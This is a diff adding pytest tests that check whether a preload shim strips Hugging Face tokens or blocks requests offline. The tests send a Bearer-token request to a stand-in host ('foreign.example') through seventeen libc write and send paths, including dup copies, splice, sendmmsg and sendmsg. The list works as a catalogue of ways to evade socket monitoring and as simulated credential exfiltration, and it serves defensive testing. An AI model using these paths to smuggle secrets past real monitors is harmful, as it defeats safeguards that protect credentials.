@@ -247,3 +247,168 @@ def test_odd_addresses_judged_by_default_rules(shim, netns):
     assert r.log.count("stripped Authorization") == 2, r
     assert seen["sin6-20"]["errno"] == "EINVAL" and seen["family-99"]["errno"] == "EAFNOSUPPORT", r
     assert sum(1 for g in got if g["kind"] == "udp") == 5, got
+
+
+# -- every libc way to put a request on a watched or virtual socket --------
+
+SEND = textwrap.dedent(r"""
+    import ctypes, errno, json, os, socket, struct, sys
+    libc = ctypes.CDLL(None, use_errno=True)
+    TOKEN = %r
+    REQ = ("GET /x HTTP/1.1\r\nHost: foreign.example\r\nAuthorization: Bearer %%s\r\n"
+           "Connection: close\r\n\r\n" %% TOKEN).encode()
+    SA = struct.pack("<H", socket.AF_INET) + struct.pack("!H4s8x", 8080, socket.inet_aton("10.9.9.9"))
+    class iovec(ctypes.Structure):
+        _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]
+    class msghdr(ctypes.Structure):
+        _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)),
+                    ("iovlen", ctypes.c_size_t), ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
+                    ("flags", ctypes.c_int)]
+    class mmsghdr(ctypes.Structure):
+        _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
+    def check(rc):
+        if rc < 0:
+            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+        return rc
+    def complete(got):
+        head, sep, body = got.partition(b"\r\n\r\n")
+        for line in head.split(b"\r\n"):
+            if line.lower().startswith(b"content-length:"):
+                return sep and len(body) >= int(line.split(b":")[1])
+        return False
+    def send_with(via, fd):
+        b = REQ
+        if via in ("connect", "__connect"):
+            return check(libc.send(fd, b, len(b), 0)), fd
+        if via in ("__send",):
+            return check(libc.__send(fd, b, len(b), 0)), fd
+        if via in ("__write", "__write_nocancel"):
+            return check(getattr(libc, via)(fd, b, len(b))), fd
+        if via == "fdopen":  # stdio over the socket
+            libc.fdopen.restype = ctypes.c_void_p
+            f = ctypes.c_void_p(libc.fdopen(fd, b"w"))
+            if not f or libc.fileno(f) != fd:
+                raise OSError(errno.EBADF, "fdopen")
+            check(libc.fputs(b, f))
+            check(libc.fflush(f))
+            return len(b), fd
+        if via == "dup":
+            d = check(libc.dup(fd))
+            return check(libc.write(d, b, len(b))), fd
+        if via in ("fcntl-dupfd", "fcntl-dupfd-cloexec", "__fcntl-dupfd"):
+            cmd = 1030 if via == "fcntl-dupfd-cloexec" else 0
+            d = check(getattr(libc, "__fcntl" if via.startswith("__") else "fcntl")(fd, cmd, 0))
+            return check(libc.send(d, b, len(b), 0)), fd
+        if via == "dup-read":  # write on the original, read the answer through the copy
+            d = check(libc.dup(fd))
+            return check(libc.write(fd, b, len(b))), d
+        if via == "splice":
+            r, w = os.pipe()
+            os.write(w, b)
+            return check(libc.splice(r, None, fd, None, len(b), 0)), fd
+        if via == "pwritev2":
+            iov = iovec(b, len(b))
+            return check(libc.pwritev2(fd, ctypes.byref(iov), 1, ctypes.c_long(-1), 0)), fd
+        if via == "sendto-addr":
+            return check(libc.sendto(fd, b, len(b), 0, SA, len(SA))), fd
+        if via in ("sendmmsg", "__sendmmsg"):
+            iov = iovec(b, len(b))
+            v = mmsghdr(msghdr(None, 0, ctypes.pointer(iov), 1, None, 0, 0), 0)
+            check(getattr(libc, via)(fd, ctypes.byref(v), 1, 0))
+            return v.len, fd
+        if via == "sendmsg-cmsg":  # SO_MARK ancillary data: TCP takes it and sends the bytes
+            iov = iovec(b, len(b))
+            cm = struct.pack("@QiiI4x", 20, socket.SOL_SOCKET, 36, 0)
+            cbuf = ctypes.create_string_buffer(cm, len(cm))
+            m = msghdr(None, 0, ctypes.pointer(iov), 1, ctypes.cast(cbuf, ctypes.c_void_p), len(cm), 0)
+            return check(libc.sendmsg(fd, ctypes.byref(m), 0)), fd
+        raise SystemExit("unknown way " + via)
+    for via in sys.argv[1:]:
+        s = socket.socket()
+        ctypes.set_errno(0)
+        rc = getattr(libc, "__connect" if via == "__connect" else "connect")(s.fileno(), SA, len(SA))
+        res = {"via": via, "connect": rc, "errno": errno.errorcode.get(ctypes.get_errno(), "0") if rc else "0"}
+        if rc == 0:
+            try:
+                res["sent"], rfd = send_with(via, s.fileno())
+                got = b""
+                r = socket.socket(fileno=os.dup(rfd)) if rfd != s.fileno() else s
+                r.settimeout(3)
+                while not complete(got):  # a virtual connection stays open after its answer
+                    k = r.recv(4096)
+                    if not k: break
+                    got += k
+                res["reply"] = got.decode("latin-1")[:40]
+            except OSError as e:
+                res["error"] = errno.errorcode.get(e.errno, str(e))
+        print(json.dumps(res), flush=True)
+""") % TOKEN
+
+WAYS = ["connect", "__connect", "__send", "__write", "dup", "dup-read", "fcntl-dupfd", "fcntl-dupfd-cloexec",
+        "__fcntl-dupfd", "splice", "pwritev2", "sendto-addr", "sendmmsg", "__sendmmsg", "sendmsg-cmsg", "fdopen",
+        "__write_nocancel"]
+
+
+def send_attack(shim, netns, env, root=None):
+    out = shim.tmp / f"listener-{shim._n}.jsonl"
+    argv = ["sh", "-c", HARNESS, "harness", *WAYS]
+    if root is not None:
+        argv, env = root.cmd(argv), root.env(env)
+    env = dict(harness_env(env, out), ATTACK=SEND)
+    r = shim.run([*netns, *argv], env=env, timeout=90)
+    assert not r.timed_out, r
+    seen, got = {}, []
+    for line in r.stdout.splitlines():
+        o = json.loads(line) if line.startswith("{") else None
+        if o and "via" in o:
+            seen[o["via"]] = o
+        elif o:
+            got.append(o)
+    assert sorted(seen) == sorted(WAYS), r
+    return r, seen, got
+
+
+def test_send_ways_without_the_shim(shim, netns):
+    """Every way delivers the request (token included) without the shim."""
+    r, seen, got = send_attack(shim, netns, shim.base_env())
+    assert all(seen[w].get("reply", "").startswith("HTTP/1.1 200") for w in WAYS), r
+    assert sum(1 for g in got if TOKEN in g["data"]) == len(WAYS), got
+
+
+def test_send_ways_judged_by_default_rules(shim, netns):
+    """Default rules, a non-Hub host: whichever libc entry point writes the
+    request (glibc's __ aliases, a dup or fcntl(F_DUPFD) copy, splice,
+    pwritev2, sendto with an address, sendmmsg, sendmsg with ancillary
+    data), the HF token is stripped before it leaves."""
+    env = shim.preload_env({"HFSHIM_RULES": str(shim.rules_dir / "default.json")})
+    r, seen, got = send_attack(shim, netns, env)
+    for w in WAYS:
+        assert seen[w].get("reply", "").startswith("HTTP/1.1 200"), (w, seen[w], r)
+    tcp = [g["data"] for g in got if g["kind"] == "tcp"]
+    assert len(tcp) == len(WAYS) and not any(TOKEN in d for d in tcp), (tcp, r)
+    assert r.log.count("stripped Authorization") == len(WAYS), r
+
+
+@pytest.mark.parametrize("mode", ["offline", "locked"])
+def test_send_ways_answered_offline(shim, netns, sysroot, mode):
+    """Offline, the Hub at 10.9.9.9:8080 (virtual connections): whichever
+    way the request is written, hfshim answers it (a cache miss: 403) and
+    nothing reaches the listener; a request written through a duplicate
+    is answered, never left unread."""
+    log = shim.tmp / "policy.log"
+    if mode == "locked":
+        sysroot.write("/etc/ld.so.preload", f"{shim.lib}\n")
+        sysroot.write("/etc/hfshim/rules.json", json.dumps({
+            "version": 1, "locked": True, "offline": True, "hub_hosts": ["10.9.9.9:8080"],
+            "log": {"destination": str(log)}}))
+        r, seen, got = send_attack(shim, netns, shim.base_env({"HFSHIM_LOG": ""}), sysroot)
+        text = log.read_text()
+    else:
+        env = shim.preload_env({"HFSHIM_RULES": str(shim.rules_dir / "offline.json"),
+                                "HF_ENDPOINT": "http://10.9.9.9:8080"})
+        r, seen, got = send_attack(shim, netns, env)
+        text = r.log
+    assert got == [], (got, r)
+    for w in WAYS:
+        assert seen[w].get("reply", "").startswith("HTTP/1.1 403"), (w, seen[w], r)
+    assert text.count("blocked GET http://foreign.example/x") == len(WAYS), text
